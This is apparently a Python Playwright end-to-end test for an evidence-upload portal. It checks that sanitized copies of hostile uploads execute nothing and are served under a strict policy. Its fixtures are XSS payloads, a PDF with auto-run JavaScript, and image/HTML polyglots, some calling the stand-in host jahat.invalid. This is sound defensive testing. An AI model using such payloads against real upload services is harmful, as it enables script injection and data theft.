"""Hostile files as officers meet them: their copies run nothing in a browser, and their originals are not opened by it.

A citizen hands them in by the form, the worker draws the copies, the leader of the office looks at each.
"""

import re
from collections.abc import Iterator
from datetime import datetime

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.browser import PHONE, Windows
from tests.e2e.citizen import NEXT, Citizen
from tests.e2e.journey import Journey
from tests.e2e.test_traces import PAGES
from tests.evidence.corpus import papers, pictures

pytestmark = pytest.mark.e2e

OFFICER = "leader-bawaslu-balikpapan"
SCRIPT = (
    b"<html><script>alert('ran');document.title='ran';fetch('http://jahat.invalid/')</script>"
    b"<img src=http://jahat.invalid/x onerror=alert(1)>"
)
RUN = papers.stream(b"app.alert('ran');this.submitForm('http://jahat.invalid/');")
DO = b"<</S/JavaScript/JS 6 0 R>>"
SCRIPTED = papers.paper(root=b"/OpenAction" + DO, page=b"/AA<</O" + DO + b">>", more={6: RUN})
HOSTILE: tuple[tuple[str, bytes, str], ...] = (
    ("jpeg-then-html.html", pictures.drawn("JPEG") + SCRIPT, "image/jpeg"),
    ("jpeg-comment.jpg", pictures.segment(0xFE, SCRIPT)(""), "image/jpeg"),
    ("png-text.svg", pictures.chunk(b"tEXt", b"Comment\0" + SCRIPT)(""), "image/jpeg"),
    ("webp-then-html.htm", pictures.drawn("WEBP") + SCRIPT, "image/jpeg"),
    ("scripted.pdf", SCRIPTED, "application/pdf"),
    ("pdf-then-html.html", papers.paper() + SCRIPT, "application/pdf"),
    ("killer.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 60, ""),
    ("after-the-killer.jpg", pictures.drawn("JPEG"), "image/jpeg"),
)  # fmt: skip


@pytest.fixture(scope="module")
def filed(journey: Journey) -> Iterator[tuple[Page, str]]:
    """The status page of somebody who has just filed with every hostile file, and the case it became."""
    now = journey.portal.now or datetime.fromisoformat("2026-03-16T09:00+08:00")
    journey.travel(now)
    before = journey.staff.queue(OFFICER, now.date())
    with journey.windows.window(size=PHONE) as page:
        file(page)
        (case,) = journey.staff.queue(OFFICER, now.date()) - before
        yield page, case


def file(page: Page) -> None:
    """A whole filing with the files, and the look at where it stands."""
    page.goto("/lapor/kejadian/")
    page.locator("#district").select_option("64.71")
    for step, answers in PAGES.items():
        Citizen(page).fill({key: value for key, value in answers.items() if key != "links"})
        if step == "bukti":
            files = [{"name": name, "mimeType": "text/html", "buffer": content} for name, content, _kind in HOSTILE]
            page.locator("#files").set_input_files(files)  # type: ignore[arg-type]
            expect(page.locator(".uploads li")).to_have_count(len(HOSTILE))
            expect(page.locator(".uploads progress")).to_have_count(0)
        page.get_by_role("button", name=NEXT).click()
    page.locator("#truth").check()
    page.get_by_role("button", name="Kirim laporan").click()
    Citizen(page).track(page.locator("#kode").inner_text())


def test_copies_run_nothing_and_a_killer_stops_no_other(
    filed: tuple[Page, str], journey: Journey, windows: Windows
) -> None:
    status, case = filed
    lines = status.locator("#bukti + ol li")
    expect(lines).to_have_count(len(HOSTILE))
    for number, (_name, _content, kind) in enumerate(HOSTILE):  # the page says so by itself, without a reload
        expect(lines.nth(number)).to_contain_text("sudah siap" if kind else "tidak terbaca mesin", timeout=60_000)

    page = journey.staff.page(OFFICER)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(case)
    addresses = [str(link.get_attribute("href")) for link in page.get_by_text("Buka salinan bersih").all()]
    kinds = [kind for _name, _content, kind in HOSTILE if kind]
    assert len(addresses) == len(kinds)
    assert [look(page, address) for address in addresses] == kinds
    # The browser's own page around a picture alone would like a style of its own; our policy refuses it even that.
    windows.noted[:] = [line for line in windows.noted if "/file/: Applying inline style violates" not in line]
    assert (dialogs, windows.noted) == ([], [])


def look(page: Page, address: str) -> str:
    """Open the page of a copy, then the copy by itself; its content type. Nothing of it may run."""
    page.goto(address)
    title = page.title()
    if page.locator("img.desk-proof").count():
        expect(page.locator("img.desk-proof")).to_have_js_property("complete", True)
        assert page.locator("img.desk-proof").evaluate("image => image.naturalWidth") > 0
    assert page.title() == title
    answer = page.request.get(f"{address}file/")
    body, headers = answer.body(), answer.headers
    assert [word for word in (b"script", b"jahat", b"JavaScript", b"OpenAction") if word in body] == []
    assert (answer.status, headers["x-content-type-options"]) == (200, "nosniff")
    assert {"default-src 'none'", "sandbox"} <= {part.strip() for part in headers["content-security-policy"].split(";")}
    if headers["content-type"] == "application/pdf":
        with page.expect_download() as download:  # never drawn inside the staff room
            page.get_by_role("link", name=re.compile("Unduh salinan bersih")).click()
        assert re.fullmatch(r"bukti-\d+\.pdf", download.value.suggested_filename)
    else:
        page.goto(f"{address}file/")
        assert page.evaluate("[document.images.length, document.scripts.length]") == [1, 0]
    return headers["content-type"]


def test_an_original_is_handed_out_as_a_file_that_nothing_opens(
    filed: tuple[Page, str], journey: Journey, windows: Windows
) -> None:
    page = journey.staff.page(OFFICER)
    page.goto(filed[1])
    page.get_by_role("link", name="Berkas asli").first.click()
    page.locator('[name="reason"]').select_option(index=1)
    page.locator('[name="purpose"]').fill("Keaslian foto ini dipersoalkan; salinan bersih tidak cukup.")
    secret = journey.portal.accounts[OFFICER]["totp_secret"]
    page.locator('[name="otp"]').fill(journey.staff._token(OFFICER, secret))

    with page.expect_download() as download:
        page.get_by_role("button", name="Buka segel dan unduh").click()

    assert download.value.suggested_filename == "bukti-1.jpg.asli"
    assert download.value.path().read_bytes() == HOSTILE[0][1]
    assert windows.noted == []


def test_a_script_that_did_run_would_be_noticed(windows: Windows) -> None:
    with windows.window() as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        page.set_content(SCRIPT.decode(), wait_until="domcontentloaded")
        expect(page).to_have_title("ran")

    assert "ran" in dialogs
    assert "request to another host: http://jahat.invalid/" in windows.noted
    windows.noted.clear()
